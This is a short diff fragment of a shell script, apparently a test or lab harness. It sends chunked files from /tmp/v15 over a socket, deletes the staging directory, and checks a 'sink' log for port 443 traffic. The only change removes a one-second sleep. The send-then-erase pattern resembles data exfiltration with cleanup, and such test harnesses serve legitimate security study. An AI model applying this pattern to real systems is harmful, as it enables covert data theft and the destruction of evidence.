@@ -8,4 +8,4 @@ for p in sorted(glob.glob(\"/tmp/v15/part.*\")):
     d = open(p, \"rb\").read(); s.sendall(d); n += len(d)
 s.close(); print(\"sent\", n)"
   rm -rf /tmp/v15' "$H"
-sleep 1; grep ':443' "$H/sink.log" | tail -1
+grep ':443' "$H/sink.log" | tail -1
